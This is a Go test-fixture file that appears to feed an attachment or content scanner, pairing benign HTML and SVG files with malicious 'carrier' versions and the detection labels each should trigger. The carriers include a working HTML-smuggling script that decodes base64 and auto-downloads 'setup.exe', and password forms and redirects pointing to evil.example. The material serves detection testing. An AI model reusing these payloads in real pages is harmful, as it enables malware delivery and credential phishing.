package carrier

import (
	"encoding/base64"
	"strings"
)

// pages are HTML and SVG that work in a browser.
func pages() []Case {
	const page, svg = "text/html", "image/svg+xml"
	plain := with("offer.html", page, []byte("<html><head><title>Offer</title></head><body><h1>Our offer</h1><p>See <a href=\"https://www.example.com/\">our site</a>.</p></body></html>"))
	logo := with("logo.svg", svg, []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle cx="5" cy="5" r="4"/></svg>`))
	literal := base64.StdEncoding.EncodeToString([]byte(strings.Repeat(exe(), 8)))
	return []Case{
		{Name: "smuggling", Want: []string{"PAGE_BUILDS_FILE"}, Twin: plain, Carrier: with("invoice.html", page, []byte(`<html><body><script>var d="`+literal+`";var s=atob(d),a=new Uint8Array(s.length);for(var i=0;i<s.length;i++)a[i]=s.charCodeAt(i);`+
			`var u=URL.createObjectURL(new Blob([a],{type:"application/octet-stream"}));var l=document.createElement("a");l.href=u;l.download="setup.exe";document.body.appendChild(l);l.click();</script></body></html>`))},
		{Name: "page-writes-itself", Want: []string{"PAGE_WRITES_ITSELF"}, Twin: plain, Carrier: with("voice.html", page, []byte(`<html><script>document.write(unescape("`+strings.Repeat("%3Cp%3Ea", 60)+`"))</script></html>`))},
		{Name: "page-password", Want: []string{"PAGE_PASSWORD"}, Twin: plain, Carrier: with("login.html", page, []byte(`<html><body><form action="https://evil.example/take" method="post"><input name="u"><input type="password" name="p"></form></body></html>`))},
		{Name: "page-redirects", Want: []string{"PAGE_REDIRECTS"}, Twin: plain, Carrier: with("go.html", page, []byte(`<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/go"></head></html>`))},
		{Name: "svg-script", Want: []string{"class:active page", "PAGE_SCRIPT"}, Twin: logo, Carrier: with("logo.svg", svg, []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>location.href="https://evil.example/"</script></svg>`))},
		{Name: "svg-password", Want: []string{"PAGE_PASSWORD", "class:active page"}, Twin: logo, Carrier: with("logo.svg", svg, []byte(`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="400" height="400"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input type="password"/></form></foreignObject></svg>`))},
		{Name: "page-in-zip", Want: []string{"class:active page"}, Twin: with("a.zip", "application/zip", zipOf(member{"a.html", "<html><body><p>words</p></body></html>"})), Carrier: with("a.zip", "application/zip", zipOf(member{"a.html", "<html><body><p>words</p><script>alert(1)</script></body></html>"}))},
	}
}
